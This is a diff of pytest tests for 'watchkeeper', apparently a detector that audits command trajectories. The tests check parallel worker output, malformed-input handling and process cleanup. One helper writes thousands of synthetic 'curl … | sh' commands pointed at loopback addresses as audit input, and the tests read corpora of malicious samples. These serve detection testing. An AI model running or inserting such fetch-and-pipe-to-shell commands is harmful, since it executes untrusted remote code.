@@ -2,10 +2,16 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
+import os
+import signal
 import subprocess
 import sys
+import time
+from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -166,3 +172,178 @@ def test_lone_surrogates_in_parquet_output(tmp_path: Path) -> None:
     import duckdb
 
     assert duckdb.sql(f"SELECT trajectory_id FROM '{out}'").fetchall() == [("a?",)]
+
+
+# --jobs N: the same bytes, exit codes and files as one process; dead workers and Ctrl-C are clean
+
+def _run_in(cwd: Path, *args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "watchkeeper.cli.main", "audit", "--no-progress", *args],
+        capture_output=True, text=True, timeout=timeout, check=False, cwd=cwd,
+    )
+
+
+@pytest.fixture()
+def labelled_with_errors(tmp_path: Path) -> list[str]:
+    """The labelled trajectories and corpus, plus a corpus file with malformed lines between records."""
+    lines = (CORPUS / "malicious.jsonl").read_text(encoding="utf-8").splitlines()[:80]
+    bad: list[str] = []
+    for i, line in enumerate(lines):
+        bad.append(line)
+        if i % 7 == 3:
+            bad.append("{not json")
+        if i % 11 == 5:
+            bad.append('"a string, not a record"')
+    p = tmp_path / "with_errors.jsonl"
+    p.write_text("\n".join(bad) + "\n", encoding="utf-8")
+    data = CORPUS.parent
+    return [str(CORPUS / "trajectories"), str(CORPUS / "benign.jsonl"), str(CORPUS / "dual_use.jsonl"),
+            str(p), str(CORPUS / "malicious.jsonl"), str(data / "trajectories")]
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "ocsf"])  # jsonl -o also prints the summary table (stderr)
+def test_jobs_output_is_byte_identical(labelled_with_errors: list[str], tmp_path: Path, fmt: str) -> None:
+    runs = []
+    for jobs in ("1", "2"):
+        cwd = tmp_path / f"jobs{jobs}"
+        cwd.mkdir()
+        # jsonl: to a file, with a clean copy; the others to stdout
+        files = ["-o", "out.jsonl", "--keep-clean", "kept.jsonl"] if fmt == "jsonl" else []
+        r = _run_in(cwd, *labelled_with_errors, "--format", fmt, "--jobs", jobs, "--fail-on", "high", *files)
+        written = {p.name: p.read_bytes() for p in sorted(cwd.iterdir())}
+        runs.append((r.returncode, r.stdout, r.stderr, written))
+    assert runs[0] == runs[1]
+    rc, stdout, stderr, written = runs[0]
+    assert rc == 2 and "malformed input record(s) skipped" in stderr and "Traceback" not in stderr
+    assert stderr.count("with_errors.jsonl:") >= 10
+    if fmt == "jsonl":
+        assert stdout == "" and set(written) == {"out.jsonl", "kept.jsonl"}
+        assert len(written["out.jsonl"].splitlines()) > 1000 and written["kept.jsonl"]
+        assert "per ATT&CK technique" in stderr and "watchkeeper: kept " in stderr
+    else:
+        assert len(stdout.splitlines()) > 100
+
+
+def test_jobs_fail_on_and_all_cpus(mixed: Path) -> None:
+    r = _run(str(mixed), "--format", "jsonl", "--fail-on", "high", "--jobs", "0")
+    assert r.returncode == 1, r.stderr
+    assert [json.loads(x)["trajectory_id"] for x in r.stdout.splitlines()] == [
+        "clean-1", "miner-1", "clean-2", "tunnel-1"]
+
+
+def test_jobs_strict_stops_at_the_same_place(labelled_with_errors: list[str], tmp_path: Path) -> None:
+    one, two = (_run_in(tmp_path, *labelled_with_errors, "--format", "jsonl", "--strict", "--jobs", jobs)
+                for jobs in ("1", "2"))
+    assert (one.returncode, one.stdout, one.stderr) == (two.returncode, two.stdout, two.stderr)
+    assert one.returncode == 2 and one.stderr.count("\n") == 1
+    assert "with_errors.jsonl:5:" in one.stderr  # the first malformed line
+    assert len(one.stdout.splitlines()) > 500  # the files before it were audited
+
+
+def test_jobs_negative_is_a_usage_error(mixed: Path) -> None:
+    r = _run(str(mixed), "--jobs", "-1")
+    assert r.returncode == 2 and "Invalid value for '--jobs'" in r.stderr and "Traceback" not in r.stderr
+
+
+def _unique_commands(path: Path, n: int) -> Path:
+    """``n`` never-seen commands: seconds of work for two workers."""
+    with path.open("w", encoding="utf-8") as f:
+        for i in range(n):
+            f.write(json.dumps({"id": f"u{i}", "command": f"# run {i}\ncurl -s http://127.0.0.{i % 200 + 1}/p{i} | sh"}) + "\n")
+    return path
+
+
+@contextlib.contextmanager
+def _cli_with_workers(tmp_path: Path, jobs: int) -> Iterator[tuple[subprocess.Popen[str], list[Any]]]:
+    """The CLI auditing seconds of input with ``jobs`` workers up; whatever the test does, every
+    process is gone afterwards."""
+    proc, family = _start_and_wait_for_workers(tmp_path, jobs)
+    try:
+        yield proc, family
+    finally:
+        proc.kill()
+        _kill_all(family)
+
+
+def _start_and_wait_for_workers(tmp_path: Path, jobs: int) -> tuple[subprocess.Popen[str], list[Any]]:
+    import psutil
+
+    big = _unique_commands(tmp_path / "big.jsonl", 20_000)
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "watchkeeper.cli.main", "audit", "--no-progress", "--jobs", str(jobs),
+         "--format", "jsonl", "-o", "out.jsonl", str(big)],
+        cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True,
+    )
+    cli = psutil.Process(proc.pid)
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline:
+        family = cli.children(recursive=True)
+        workers = [p for p in family if p.ppid() != proc.pid]  # forked by the fork server
+        if len(workers) >= jobs:
+            time.sleep(0.3)  # let them start on the input
+            return proc, family
+        assert proc.poll() is None, proc.communicate()
+        time.sleep(0.05)
+    proc.kill()
+    raise AssertionError("the workers did not start")
+
+
+def _all_gone(processes: list[Any], within: float = 10.0) -> bool:
+    import psutil
+
+    deadline = time.monotonic() + within
+    while time.monotonic() < deadline:
+        alive = []
+        for p in processes:
+            try:
+                if p.status() != psutil.STATUS_ZOMBIE:
+                    alive.append(p)
+            except psutil.NoSuchProcess:
+                pass
+        if not alive:
+            return True
+        time.sleep(0.1)
+    return False
+
+
+def _kill_all(processes: list[Any]) -> None:
+    """After a failed check: leave no process behind."""
+    import psutil
+
+    for p in processes:
+        try:
+            p.kill()
+        except psutil.NoSuchProcess:
+            pass
+
+
+@pytest.mark.timeout(120)
+def test_jobs_a_killed_worker_is_one_line_and_no_output(tmp_path: Path) -> None:
+    with _cli_with_workers(tmp_path, 2) as (proc, family):
+        victim = next(p for p in family if p.ppid() != proc.pid)
+        os.kill(victim.pid, signal.SIGKILL)
+        _, stderr = proc.communicate(timeout=60)
+        assert proc.returncode == 3
+        assert stderr == (f"watchkeeper: error: audit worker died (pid {victim.pid} killed by SIGKILL, "
+                          "e.g. out of memory)\n")
+        assert sorted(p.name for p in tmp_path.iterdir()) == ["big.jsonl"]  # no output, no temp file
+        assert _all_gone(family)
+
+
+@pytest.mark.timeout(120)
+def test_jobs_ctrl_c_stops_every_worker(tmp_path: Path) -> None:
+    with _cli_with_workers(tmp_path, 2) as (proc, family):
+        os.killpg(proc.pid, signal.SIGINT)  # what a terminal's Ctrl-C does: the whole process group
+        _, stderr = proc.communicate(timeout=60)
+        assert proc.returncode == 130
+        assert stderr.strip() == "watchkeeper: interrupted" and "Traceback" not in stderr
+        assert sorted(p.name for p in tmp_path.iterdir()) == ["big.jsonl"]
+        assert len(family) >= 3 and _all_gone(family)
+
+
+@pytest.mark.timeout(120)
+def test_jobs_workers_end_when_the_cli_is_killed(tmp_path: Path) -> None:
+    with _cli_with_workers(tmp_path, 2) as (proc, family):
+        os.kill(proc.pid, signal.SIGKILL)  # no clean-up code runs in the CLI
+        proc.wait(timeout=60)
+        assert len(family) >= 3 and _all_gone(family)
